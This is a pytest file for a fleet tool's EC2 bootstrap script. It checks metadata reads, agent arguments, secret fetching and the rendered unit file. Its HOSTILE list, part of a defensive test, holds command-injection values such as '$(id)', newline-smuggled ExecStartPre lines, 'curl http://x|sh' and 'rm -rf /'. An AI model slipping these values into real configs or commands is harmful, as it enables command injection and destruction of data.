"""The instance bootstrap script."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from titus_flow import __version__
from titus_flow.errors import SpecError
from titus_flow.fleet import load_fleet, parse_fleet
from titus_flow.fleet.spec import SecretSource
from titus_flow.fleet.userdata import agent_arguments, agent_environment, user_data

EXAMPLE = Path(__file__).parents[2] / "examples" / "fleets" / "batch-pool.yaml"


def test_script_reads_identity_from_imdsv2_and_starts_the_agent() -> None:
    script = user_data(load_fleet(EXAMPLE))
    assert script.startswith("#!/bin/bash\n")
    assert 'curl -sSf -X PUT "$IMDS/api/token"' in script
    assert "X-aws-ec2-metadata-token: $TOKEN" in script
    for path in ("instance-id", "instance-type", "placement/availability-zone", "local-ipv4"):
        assert f"imds {path})" in script
    assert (
        "--id $INSTANCE_ID --attribute zone=$ZONE --attribute instance_type=$INSTANCE_TYPE"
        in script
    )
    assert "--attribute instance_id=$INSTANCE_ID" in script
    # ip target groups register the tasks by it (docs/services.md, load balancers)
    assert "--attribute private_ip=$PRIVATE_IP" in script
    # The default requirement pins the release that wrote the script.
    assert f"pip install --quiet titus-flow=={__version__}" in script
    assert 'Environment="TITUS_FLOW_ADDRESS=temporal.internal:7233"' in script
    assert 'Environment="TITUS_FLOW_CONTROL_TASK_QUEUE=titus-control"' in script
    assert 'Environment="TITUS_FLOW_NAMESPACE=default"' in script
    assert "systemctl enable --now docker" in script


def test_each_type_offers_its_size_minus_the_reserve() -> None:
    script = user_data(load_fleet(EXAMPLE))
    assert "  m5.large) RESOURCES='--cpu 2 --memory 7680Mi" in script
    assert "  r5.large) RESOURCES='--cpu 2 --memory 15872Mi" in script
    # The example buys spot: its agents drain on an interruption notice.
    assert "--attribute fleet=batch-pool --attribute pool=batch --spot-notices'" in script


def test_on_demand_fleets_do_not_watch_for_spot_notices() -> None:
    spec = load_fleet(EXAMPLE)
    on_demand = spec.model_copy(
        update={"purchase": spec.purchase.model_copy(update={"spot_percentage": 0})}
    )
    assert "--spot-notices" not in user_data(on_demand)


@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash")
def test_script_is_valid_bash(tmp_path: Path) -> None:
    path = tmp_path / "user-data.sh"
    path.write_text(user_data(load_fleet(EXAMPLE)))
    assert subprocess.run(["bash", "-n", str(path)], capture_output=True).returncode == 0


def test_agent_arguments_and_environment() -> None:
    spec = load_fleet(EXAMPLE)
    m5 = spec.instance_types[0]
    args = agent_arguments(spec, m5, "i-0abc", "us-east-1a")
    assert args[:3] == ["agent", "--id", "i-0abc"]
    assert "zone=us-east-1a" in args and "instance_type=m5.large" in args
    assert "instance_id=i-0abc" in args
    assert not [a for a in args if a.startswith("private_ip=")]
    with_ip = agent_arguments(spec, m5, "i-0abc", "us-east-1a", private_ip="10.0.0.7")
    assert "private_ip=10.0.0.7" in with_ip
    assert agent_environment(spec)["TITUS_FLOW_ADDRESS"] == "temporal.internal:7233"


def test_agents_upload_task_logs_where_the_fleet_says() -> None:
    assert "TITUS_FLOW_LOG_BUCKET" not in agent_environment(load_fleet(EXAMPLE))
    spec = parse_fleet(
        {**_raw(), "agent": {"log_bucket": "my-task-logs", "log_prefix": "prod/batch"}}, "f.yaml"
    )
    environment = agent_environment(spec)
    assert environment["TITUS_FLOW_LOG_BUCKET"] == "my-task-logs"
    assert environment["TITUS_FLOW_LOG_PREFIX"] == "prod/batch"
    assert 'Environment="TITUS_FLOW_LOG_BUCKET=my-task-logs"' in user_data(spec)


# --- hostile field values (issue 12): refused at load, and refused again at render -------

HOSTILE = [
    ("temporal.address", "t:7233$(id>/tmp/x)"),
    ("temporal.address", "t:7233`id`"),
    ("temporal.address", "t:7233\nExecStartPre=/bin/sh -c id"),
    ("temporal.address", 'temporal:7233" ; id ; "'),
    ("temporal.namespace", "default'; id; '"),
    ("temporal.namespace", "default\nUNIT\nid"),
    ("temporal.control_task_queue", "titus;reboot"),
    ("temporal.control_task_queue", "q%h"),
    ("agent.package", "titus-flow"),  # unpinned
    ("agent.package", "titus-flow==1.0; curl http://x|sh"),
    ("agent.attributes", {"pool": "a b"}),
    ("agent.attributes", {"pool": "$(id)"}),
    ("agent.attributes", {"po'ol": "x"}),
    ("agent.log_bucket", "logs$(id)"),
    ("agent.log_bucket", "s3://logs"),
    ("agent.log_prefix", "prod\nExecStartPre=/bin/sh -c id"),
    ("agent.log_prefix", 'prod" ; id ; "'),
    ("temporal.api_key", {"file": "/etc/k; rm -rf /"}),
    ("temporal.api_key", {"file": "relative/path"}),
    ("temporal.codec_keys", {"secret": "arn:aws:secretsmanager:us-east-1:1:secret:$(id)"}),
]


def _with(raw: dict[str, Any], dotted: str, value: object) -> dict[str, Any]:
    section, field = dotted.split(".")
    return {**raw, section: {**raw.get(section, {}), field: value}}


def _raw() -> dict[str, Any]:
    raw: dict[str, Any] = yaml.safe_load(EXAMPLE.read_text())
    return raw


@pytest.mark.parametrize(("field", "value"), HOSTILE)
def test_hostile_values_are_refused_at_load(field: str, value: object) -> None:
    with pytest.raises(SpecError) as caught:
        parse_fleet(_with(_raw(), field, value), "fleet.yaml")
    assert field.split(".")[1] in str(caught.value)


@pytest.mark.parametrize(("field", "value"), HOSTILE)
def test_hostile_values_slipped_past_validation_are_refused_at_render(
    field: str, value: object
) -> None:
    spec = load_fleet(EXAMPLE)
    section, name = field.split(".")
    part = getattr(spec, section)
    if isinstance(value, dict) and name in ("api_key", "codec_keys"):
        value = SecretSource.model_construct(**value)
    bad = spec.model_copy(update={section: part.model_copy(update={name: value})})
    with pytest.raises(ValueError, match="refusing to render its boot script"):
        user_data(bad)


def test_credentials_from_files_and_secrets_manager(tmp_path: Path) -> None:
    arn = "arn:aws:secretsmanager:us-east-1:123456789012:secret:tf/codec-AbCdEf"
    raw = _with(_raw(), "temporal.tls_cert", {"file": "/etc/pki/titus/client.pem"})
    raw = _with(raw, "temporal.tls_key", {"secret": "tf/client-key"})
    raw = _with(raw, "temporal.codec_keys", {"secret": arn})
    spec = parse_fleet(raw, "fleet.yaml")
    env = agent_environment(spec)
    assert env["TITUS_FLOW_TLS_CERT"] == "/etc/pki/titus/client.pem"
    assert env["TITUS_FLOW_TLS_KEY"] == "/etc/titus-flow/tls-key.pem"
    assert env["TITUS_FLOW_CODEC_KEY_FILE"] == "/etc/titus-flow/codec-keys"
    script = user_data(spec)
    fetch = "/opt/titus-flow/bin/titus-flow fleet fetch-secret --region us-east-1"
    assert f"{fetch} tf/client-key /etc/titus-flow/tls-key.pem\n" in script
    assert f"{fetch} {arn} /etc/titus-flow/codec-keys\n" in script
    assert 'Environment="TITUS_FLOW_CODEC_KEY_FILE=/etc/titus-flow/codec-keys"' in script
    # Secrets are fetched after the pinned install and before the agent starts.
    assert (
        script.index("pip install")
        < script.index(fetch)
        < script.index("systemctl enable --now titus")
    )
    path = tmp_path / "user-data.sh"
    path.write_text(script)
    assert subprocess.run(["bash", "-n", str(path)], capture_output=True).returncode == 0
    with pytest.raises(SpecError, match="both tls_cert and tls_key"):
        parse_fleet(_with(_raw(), "temporal.tls_cert", {"file": "/etc/c.pem"}), "fleet.yaml")
    with pytest.raises(SpecError, match="exactly one of file"):
        parse_fleet(_with(_raw(), "temporal.api_key", {}), "fleet.yaml")


def test_the_unit_is_written_by_a_quoted_heredoc_and_args_by_printf() -> None:
    script = user_data(load_fleet(EXAMPLE))
    assert "<<'UNIT'" in script and "<<UNIT" not in script
    assert "printf 'AGENT_ARGS=%s\\n' \"$AGENT_ARGS\" > /etc/titus-flow/agent.env" in script
    assert "ExecStart=/opt/titus-flow/bin/titus-flow agent $AGENT_ARGS" in script


@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash")
def test_instance_identity_with_shell_syntax_stays_data(tmp_path: Path) -> None:
    """The agent.env lines of the script, run by bash with IMDS answers full of shell
    syntax, write those answers as they are and run none of them."""
    script = user_data(load_fleet(EXAMPLE))
    start = script.index('case "$INSTANCE_TYPE" in')
    end = script.index("\n", script.index("printf 'AGENT_ARGS"))
    section = script[start:end].replace("/etc/titus-flow", str(tmp_path))
    env = {
        "PATH": os.environ["PATH"],
        "INSTANCE_TYPE": "m5.large",
        "INSTANCE_ID": f"i-1$(touch {tmp_path}/ran)",
        "ZONE": f"`touch {tmp_path}/ran2`",
        "PRIVATE_IP": "10.0.0.7",
    }
    done = subprocess.run(["bash", "-euc", section], env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "ran").exists() and not (tmp_path / "ran2").exists()
    written = (tmp_path / "agent.env").read_text()
    assert written.startswith(f"AGENT_ARGS=--id i-1$(touch {tmp_path}/ran) --attribute zone=`")
    assert "--cpu 2 --memory 7680Mi" in written and "--attribute pool=batch" in written
    assert "--attribute private_ip=10.0.0.7" in written
